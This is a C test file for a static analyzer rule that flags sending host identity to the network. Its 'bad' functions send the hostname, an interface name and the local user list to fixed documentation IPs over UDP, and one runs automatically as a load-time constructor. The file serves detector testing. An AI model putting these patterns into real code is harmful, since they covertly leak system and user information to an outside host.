/* A host introduces itself: to a fixed address, or to the server it was set up for. */
#include <arpa/inet.h>
#include <ifaddrs.h>
#include <netdb.h>
#include <netinet/in.h>
#include <pwd.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/utsname.h>
#include <unistd.h>

struct form {
    char host[64];
    char link[32];
    char users[256];
};

static void fill(struct form *form) {
    struct ifaddrs *list = NULL;
    memset(form, 0, sizeof *form);
    gethostname(form->host, sizeof form->host - 1);
    if (getifaddrs(&list) == 0 && list)
        strncpy(form->link, list->ifa_name, sizeof form->link - 1);
    for (struct passwd *user; (user = getpwent());)
        strncat(form->users, user->pw_name, 8);
}

int bad_start(void) {
    struct form form;
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(8081)};
    fill(&form);
    peer.sin_addr.s_addr = inet_addr("203.0.113.44");
    int out = socket(AF_INET, SOCK_DGRAM, 0);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/identity-to-network]}}
    sendto(out, &form, sizeof form, 0, (struct sockaddr *)&peer, sizeof peer);
    return close(out);
}

__attribute__((constructor)) static void bad_loaded(void) {
    struct utsname name;
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(8082)};
    uname(&name);
    peer.sin_addr.s_addr = inet_addr("203.0.113.45");
    int out = socket(AF_INET, SOCK_DGRAM, 0);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/identity-to-network]}}
    sendto(out, name.nodename, sizeof name.nodename, 0, (struct sockaddr *)&peer, sizeof peer);
    close(out);
}

/* Mail servers want to know who calls; this one is a setting. */
int good_greet(void) {
    char host[64], line[128];
    struct addrinfo *list = NULL;
    const char *server = getenv("SMTP_SERVER");
    gethostname(host, sizeof host);
    if (!server || getaddrinfo(server, "25", NULL, &list))
        return -1;
    int out = socket(list->ai_family, SOCK_STREAM, 0);
    if (connect(out, list->ai_addr, list->ai_addrlen) == 0) {
        int size = snprintf(line, sizeof line, "EHLO %s\r\n", host);
        send(out, line, (size_t)size, 0);
    }
    freeaddrinfo(list);
    return close(out);
}

/* Neighbours learn the name of a printer by multicast. */
int good_announce(void) {
    char host[64], line[128];
    struct sockaddr_in group = {.sin_family = AF_INET, .sin_port = htons(5353)};
    gethostname(host, sizeof host);
    group.sin_addr.s_addr = inet_addr("224.0.0.251");
    int out = socket(AF_INET, SOCK_DGRAM, 0);
    int size = snprintf(line, sizeof line, "%s._printer", host);
    sendto(out, line, (size_t)size, 0, (struct sockaddr *)&group, sizeof group);
    return close(out);
}
